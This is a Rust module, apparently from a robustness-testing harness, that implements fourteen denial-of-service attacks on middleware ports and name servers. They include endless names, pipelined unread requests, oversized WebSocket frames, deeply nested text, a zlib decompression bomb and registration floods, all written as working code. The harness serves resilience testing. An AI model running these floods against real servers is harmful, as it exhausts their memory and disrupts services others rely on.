//! Ways to abuse ports and name servers, written byte by byte.

use std::io::{ErrorKind, Read, Write};
use std::net::{SocketAddr, TcpStream};
use std::sync::LazyLock;
use std::time::{Duration, Instant};

use flate2::Compression;
use flate2::write::ZlibEncoder;
use yarp_ports::{Network, Port, PortOptions};
use yarp_wire::{Bottle, Value, WireVersion};

use crate::Failure;
use crate::victim::Targets;

/// Time without progress after which a connection that the victim does not read counts as stuck.
const STUCK_TIMEOUT: Duration = Duration::from_secs(3);
/// Timeout of one write or read.
const STEP_TIMEOUT: Duration = Duration::from_millis(100);
/// Connections that an attacker opens again after the victim ended one.
const MAX_RECONNECTS: usize = 2_000;
/// Timeout of the reply that shows that an attack does what it is meant to.
const REPLY_TIMEOUT: Duration = Duration::from_secs(20);
/// Names that make lists long, 900 bytes each.
const LISTED_NAMES: usize = 5_000;
/// Bytes of a piece that endless attacks repeat.
const PIECE: usize = 64 << 10;

/// Bytes of a line of nested text, just below what a line may have; and values of a bottle, as many as may be.
const MAX_LINE: usize = 3_800_000;
const MAX_VALUES: usize = 4 << 20;
/// Bytes that a compressed message expands to; just below what a process expands at a time.
const EXPANDED: usize = 40 << 20;

/// Kind of abuse.
#[derive(Clone, Copy, Debug, Eq, PartialEq)]
pub(crate) enum Attack {
    EndlessNames,
    LongNames,
    Forms,
    PipelinedStatus,
    PipelinedLists,
    PipelinedBottles,
    EmptyFrames,
    NestedText,
    NestedTextPlain,
    ManyValues,
    Zlib,
    PortProperties,
    NameProperties,
    Registrations,
}

/// Result of an attack from one connection.
pub(crate) struct Outcome {
    /// Bytes that the victim's side of the connection took.
    pub(crate) sent: usize,
    /// Why the attack did not take place.
    pub(crate) error: Option<String>,
    /// The last connection, if it is still open: what the victim holds for it counts.
    pub(crate) _open: Option<TcpStream>,
}

impl Attack {
    pub(crate) const ALL: [Self; 14] = [
        Self::EndlessNames,
        Self::LongNames,
        Self::Forms,
        Self::PipelinedStatus,
        Self::PipelinedLists,
        Self::PipelinedBottles,
        Self::EmptyFrames,
        Self::NestedText,
        Self::NestedTextPlain,
        Self::ManyValues,
        Self::Zlib,
        Self::PortProperties,
        Self::NameProperties,
        Self::Registrations,
    ];

    pub(crate) fn name(self) -> &'static str {
        match self {
            Self::EndlessNames => "endless-names",
            Self::LongNames => "long-names",
            Self::Forms => "forms",
            Self::PipelinedStatus => "pipelined-status",
            Self::PipelinedLists => "pipelined-lists",
            Self::PipelinedBottles => "pipelined-bottles",
            Self::EmptyFrames => "empty-frames",
            Self::NestedText => "nested-text",
            Self::NestedTextPlain => "nested-text-plain",
            Self::ManyValues => "many-values",
            Self::Zlib => "zlib",
            Self::PortProperties => "port-properties",
            Self::NameProperties => "name-properties",
            Self::Registrations => "registrations",
        }
    }

    pub(crate) fn named(name: &str) -> Result<Self, Failure> {
        let found = Self::ALL.into_iter().find(|attack| attack.name() == name);
        let known = Self::ALL.map(Self::name).join(", ");
        found.ok_or_else(|| format!("unknown attack {name}; known: {known}").into())
    }

    /// Returns the least number of `bytes` that the victim takes from `connections` connections.
    ///
    /// From one connection that does not read its replies, or that opens again for each line, it takes less.
    pub(crate) fn least(self, bytes: usize, connections: usize) -> usize {
        match self {
            Self::LongNames
            | Self::PipelinedStatus
            | Self::PipelinedLists
            | Self::PipelinedBottles
                if connections == 1 =>
            {
                bytes / 8
            }
            _ => bytes / connections * connections,
        }
    }

    /// Sends `bytes` bytes of this abuse, reconnecting whenever the victim ends the connection.
    ///
    /// This is attacker `number` of `attackers`.
    pub(crate) fn run(
        self,
        targets: &Targets,
        number: usize,
        attackers: usize,
        bytes: usize,
    ) -> Outcome {
        let target = match self {
            Self::Forms
            | Self::PipelinedLists
            | Self::PipelinedBottles
            | Self::NameProperties
            | Self::Registrations => targets.names,
            // Devices limit requests; other ports take what messages may have.
            Self::NestedTextPlain | Self::ManyValues => targets.plain,
            _ => targets.arm,
        };
        let mut attacker = Attacker::new(target, targets.names, bytes, attackers);
        while attacker.goes_on() {
            let round = attacker.reconnects;
            self.one_connection(&mut attacker, &format!("{number}_{round}"));
        }
        Outcome {
            sent: attacker.sent,
            error: attacker.error.or(match attacker.proof {
                Proof::Missing { error } => Some(error),
                Proof::NotNeeded | Proof::Seen { .. } => None,
            }),
            _open: attacker.stream,
        }
    }

    /// Sends until the victim ends the connection or everything is sent.
    fn one_connection(self, to: &mut Attacker, tag: &str) -> Option<()> {
        to.connect()?;
        match self {
            Self::EndlessNames => {
                to.send(b"CONNECT /")?;
                to.repeat(&vec![b'a'; PIECE])
            }
            Self::LongNames => {
                // Each connection is a new one.
                to.send(format!("CONNECT /{}/{tag}\r\n", "n".repeat(3_900)).as_bytes())?;
                to.expect("Welcome")?;
                to.end();
                Some(())
            }
            Self::Forms => {
                let lines = "cmd=d%0Alist%0Ah%0A".to_owned() + &"d%0Alist%0Ah%0A".repeat(1 << 16);
                let head = "POST /form HTTP/1.1\r\nHost: 127.0.0.1\r\n\
                    Content-Type: application/x-www-form-urlencoded\r\nContent-Length: ";
                to.send(format!("{head}{}\r\n\r\n", lines.len()).as_bytes())?;
                to.send(lines.as_bytes())?;
                // All of them, or none while the memory for values is taken.
                to.expect_one_of(&["HTTP/1.1 200", "HTTP/1.1 503"])?;
                to.end_after_reply();
                Some(())
            }
            Self::PipelinedStatus => {
                to.greet(tag)?;
                to.send(b"*\r\n")?;
                to.expect("This is /wam/rpc:i")?;
                to.repeat(&b"*\r\n".repeat(PIECE / 3))
            }
            Self::PipelinedLists => {
                to.register_listed_names(tag)?;
                to.greet(tag)?;
                to.repeat(&b"d\r\nlist\r\n".repeat(PIECE / 9))
            }
            Self::PipelinedBottles => {
                to.register_listed_names(tag)?;
                to.greet(tag)?;
                to.repeat(&b"d\r\nbot list\r\n".repeat(PIECE / 13))
            }
            Self::EmptyFrames => to.empty_frames(),
            Self::NestedText | Self::NestedTextPlain => {
                to.greet(tag)?;
                let words = to.bytes.min(MAX_LINE) / 2;
                let (open, close) = ("(".repeat(199), ")".repeat(199));
                let line = format!("d\r\n{open}{}{close}\r\n", "a ".repeat(words));
                to.repeat(line.as_bytes())
            }
            Self::ManyValues => {
                // A list of numbers of a byte each, in the binary form of all versions.
                let count = to.bytes.min(MAX_VALUES);
                to.greet_fast_tcp(tag)?;
                let mut bottle = Vec::from((256_i32 | 32).to_le_bytes());
                bottle.extend((count as i32).to_le_bytes());
                bottle.resize(bottle.len() + count, 1);
                to.repeat(&fast_tcp_message(&bottle))
            }
            Self::Zlib => {
                if let Err(error) = to.expanding_messages(tag) {
                    to.error = Some(error.to_string());
                }
                None
            }
            Self::PortProperties => {
                to.greet(tag)?;
                to.repeat_with("[ok]", |count| {
                    let value = "v".repeat(1_000);
                    format!("a\r\n[prop] [set] k{count} {value}\r\n")
                })
            }
            Self::NameProperties => {
                to.greet(tag)?;
                to.repeat_with("registration name", |count| {
                    let name = count / 16;
                    let value = "v".repeat(4_000);
                    format!(
                        "d\r\nregister /p{tag}/{name} tcp 127.0.0.1 9\r\nd\r\nset /p{tag}/{name} k{count} {value}\r\n"
                    )
                })
            }
            Self::Registrations => {
                to.greet(tag)?;
                let long = "n".repeat(200);
                to.repeat_with("registration name", |count| {
                    format!("d\r\nregister /r{tag}/{count}/{long} tcp 127.0.0.1 9\r\n")
                })
            }
        }
    }
}

/// Returns a message on `fast_tcp`.
fn fast_tcp_message(content: &[u8]) -> Vec<u8> {
    let mut message = b"YA\x0a\0\0\0RP\x02\x01\xff\xff\xff\xff\xff\xff\xff\xff\x08\0\0\0".to_vec();
    message.extend((content.len() as i32).to_le_bytes());
    message.extend(b"\0\0\0\0\0\0\0\0~d\0\x01");
    message.extend(content);
    message
}

/// Returns a message that takes a thousandth of what it expands to.
fn expanding_message() -> Bottle {
    static MESSAGE: LazyLock<Bottle> = LazyLock::new(|| {
        let text = Bottle::of("x".repeat(EXPANDED)).encode(WireVersion::V3);
        let mut encoder = ZlibEncoder::new(Vec::new(), Compression::default());
        encoder.write_all(&text).expect("memory takes it");
        let compressed = encoder.finish().expect("memory takes it");
        let size = i32::try_from(text.len()).expect("it is small");
        Bottle::from_iter([Value::Int32(size), Value::Blob(compressed.into())])
    });
    MESSAGE.clone()
}

/// A connection, opened again as often as the victim ends it, and what is left to send.
struct Attacker {
    target: SocketAddr,
    names: SocketAddr,
    bytes: usize,
    /// The number of attackers.
    attackers: usize,
    sent: usize,
    reconnects: usize,
    stuck: bool,
    error: Option<String>,
    proof: Proof,
    stream: Option<TcpStream>,
}

/// Whether a reply has shown that the attack does what it is meant to.
enum Proof {
    /// No reply is expected so far.
    NotNeeded,
    /// The last connection ended without a reply.
    Missing { error: String },
    /// It was on this connection.
    Seen { round: usize },
}

impl Attacker {
    fn new(target: SocketAddr, names: SocketAddr, bytes: usize, attackers: usize) -> Self {
        Self {
            target,
            names,
            bytes,
            attackers,
            sent: 0,
            reconnects: 0,
            stuck: false,
            error: None,
            proof: Proof::NotNeeded,
            stream: None,
        }
    }

    fn goes_on(&self) -> bool {
        let may = self.reconnects < MAX_RECONNECTS && !self.stuck && self.error.is_none();
        may && self.sent < self.bytes
    }

    fn connect(&mut self) -> Option<()> {
        self.reconnects += 1;
        let stream = TcpStream::connect_timeout(&self.target, STUCK_TIMEOUT).ok()?;
        stream.set_write_timeout(Some(STEP_TIMEOUT)).ok()?;
        stream.set_read_timeout(Some(STEP_TIMEOUT)).ok()?;
        self.stream = Some(stream);
        Some(())
    }

    /// Writes all bytes; `None` if the connection ended, is stuck, or everything is sent.
    fn send(&mut self, mut bytes: &[u8]) -> Option<()> {
        let mut progress = Instant::now();
        while !bytes.is_empty() {
            match self.stream.as_mut()?.write(bytes) {
                Ok(0) => return self.ended(),
                Ok(count) => {
                    self.sent += count;
                    bytes = &bytes[count..];
                    progress = Instant::now();
                }
                Err(error)
                    if matches!(error.kind(), ErrorKind::WouldBlock | ErrorKind::TimedOut) =>
                {
                    if progress.elapsed() > STUCK_TIMEOUT {
                        self.stuck = true;
                        return None;
                    }
                }
                Err(_) => return self.ended(),
            }
        }
        Some(())
    }

    fn ended(&mut self) -> Option<()> {
        self.stream = None;
        None
    }

    /// Sends the same bytes until everything is sent; does not read.
    fn repeat(&mut self, bytes: &[u8]) -> Option<()> {
        while self.sent < self.bytes {
            self.send(bytes)?;
        }
        Some(())
    }

    /// Reads until the reply contains `words`; otherwise the attack is not the one that it is meant to be.
    fn expect(&mut self, words: &str) -> Option<()> {
        self.expect_one_of(&[words])
    }

    /// Reads until the reply contains one of these, over connections until the first on which it does.
    ///
    /// A connection that ends without a reply was refused, which is no error unless all are.
    fn expect_one_of(&mut self, words: &[&str]) -> Option<()> {
        if matches!(self.proof, Proof::Seen { round } if round != self.reconnects) {
            return Some(());
        }
        let begun = Instant::now();
        let mut reply = Vec::new();
        let mut buffer = vec![0; PIECE];
        let mut end = "and no more in time".to_owned();
        while begun.elapsed() < REPLY_TIMEOUT {
            match self.stream.as_mut()?.read(&mut buffer) {
                Ok(0) => {
                    end = "and the end".to_owned();
                    break;
                }
                Ok(count) => reply.extend_from_slice(&buffer[..count]),
                Err(error)
                    if matches!(error.kind(), ErrorKind::WouldBlock | ErrorKind::TimedOut) => {}
                Err(error) => {
                    end = error.to_string();
                    break;
                }
            }
            let text = String::from_utf8_lossy(&reply);
            if words.iter().any(|words| text.contains(words)) {
                let round = self.reconnects;
                self.proof = Proof::Seen { round };
                return Some(());
            }
        }
        let text: String = String::from_utf8_lossy(&reply).chars().take(200).collect();
        let error = format!("expected one of {words:?} in the reply, got {text:?}, {end}");
        match text.is_empty() {
            true => {
                self.proof = Proof::Missing { error };
                self.ended()
            }
            false => {
                self.error = Some(error);
                None
            }
        }
    }

    /// Sends texts that count up until everything is sent; reads what is replied, in which `words` come first.
    fn repeat_with(&mut self, words: &str, mut text: impl FnMut(usize) -> String) -> Option<()> {
        self.send(text(0).as_bytes())?;
        self.expect(words)?;
        let stream = self.stream.as_ref()?.try_clone().ok()?;
        let reading = std::thread::spawn(move || {
            let mut stream = stream;
            let mut buffer = vec![0; PIECE];
            loop {
                match stream.read(&mut buffer) {
                    Ok(0) => break,
                    Ok(_) => {}
                    Err(error)
                        if matches!(error.kind(), ErrorKind::WouldBlock | ErrorKind::TimedOut) => {}
                    Err(_) => break,
                }
            }
        });
        let mut count = 1;
        let mut result = Some(());
        while self.sent < self.bytes && result.is_some() {
            result = self.send(text(count).as_bytes());
            count += 1;
        }
        if let Some(stream) = &self.stream {
            // The reader ends with its end; what was registered stays.
            let _ = stream.shutdown(std::net::Shutdown::Both);
        }
        let _ = reading.join();
        result
    }

    /// Registers names at first, over a connection of its own: without many names a list is short.
    fn register_listed_names(&mut self, tag: &str) -> Option<()> {
        if matches!(self.proof, Proof::Seen { .. }) {
            return Some(());
        }
        self.greet(tag)?;
        let long = "n".repeat(900);
        for count in 0..LISTED_NAMES / self.attackers {
            let line = format!("d\r\nregister /l{tag}/{count}/{long} tcp 127.0.0.1 9\r\n");
            self.send(line.as_bytes())?;
            self.expect("registration name")?;
        }
        self.end();
        self.connect()
    }

    /// Sends frames without content on a WebSocket.
    fn empty_frames(&mut self) -> Option<()> {
        self.send(
            b"GET /?ws HTTP/1.1\r\nHost: 127.0.0.1\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n\
            Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\nSec-WebSocket-Version: 13\r\n\r\n",
        )?;
        self.expect("HTTP/1.1 101")?;
        // A spelled command without its end, in one frame; then frames without content.
        let content = 3_900_000_u64;
        self.send(&[0x82, 0xff])?;
        self.send(&content.to_be_bytes())?;
        self.send(&[0; 4])?;
        for _ in 0..content / 60_000 {
            self.send(&[b'a'; 60_000])?;
        }
        self.repeat(&[0x82, 0x80, 0, 0, 0, 0].repeat(PIECE / 6))
    }

    /// Begins a connection of the text carrier.
    fn greet(&mut self, tag: &str) -> Option<()> {
        self.send(format!("CONNECT /abuse/{tag}\r\n").as_bytes())
    }

    /// Begins a connection of `fast_tcp`, which nothing is acknowledged on.
    fn greet_fast_tcp(&mut self, tag: &str) -> Option<()> {
        let name = format!("/abuse/{tag}\0");
        self.send(b"YA\xe4\x1e\0\0RP")?;
        self.send(&(name.len() as i32).to_le_bytes())?;
        self.send(name.as_bytes())
    }

    /// Writes messages that a monitor of the victim expands to about a thousand times their size.
    fn expanding_messages(&mut self, tag: &str) -> Result<(), Failure> {
        let message = expanding_message();
        let size = message.encode(WireVersion::V3).len();
        let carrier = "tcp+recv.portmonitor+type.dll+file.bottle_compression_zlib";
        let target = format!("{carrier}://{}/wam/rpc:i", self.target);
        let runtime = tokio::runtime::Builder::new_current_thread()
            .enable_all()
            .build()?;
        runtime.block_on(async {
            let name = format!("/abuse/{tag}");
            let network = Network::at(&self.names.ip().to_string(), self.names.port());
            let port = Port::open(&network, &name, PortOptions::new()).await?;
            port.connect(&target).await?;
            while self.sent < self.bytes && port.write(&message).await == 1 {
                self.sent += size;
            }
            port.close().await;
            Ok(())
        })
    }

    fn end(&mut self) {
        self.stream = None;
    }

    /// Reads until the victim ends the connection or stops sending.
    fn end_after_reply(&mut self) {
        let Some(mut stream) = self.stream.take() else {
            return;
        };
        let mut buffer = vec![0; PIECE];
        let mut progress = Instant::now();
        while progress.elapsed() < STUCK_TIMEOUT {
            match stream.read(&mut buffer) {
                Ok(0) => return,
                Ok(_) => progress = Instant::now(),
                Err(error)
                    if matches!(error.kind(), ErrorKind::WouldBlock | ErrorKind::TimedOut) => {}
                Err(_) => return,
            }
        }
    }
}
